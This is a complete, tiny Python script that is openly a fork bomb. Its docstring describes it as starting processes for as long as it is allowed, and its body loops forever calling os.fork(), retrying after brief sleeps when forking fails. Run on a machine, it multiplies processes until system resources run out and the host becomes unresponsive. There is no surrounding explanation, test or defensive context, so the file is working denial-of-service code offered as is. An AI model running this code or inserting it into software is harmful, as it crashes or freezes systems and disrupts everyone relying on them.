"""Starts processes for as long as it is let."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
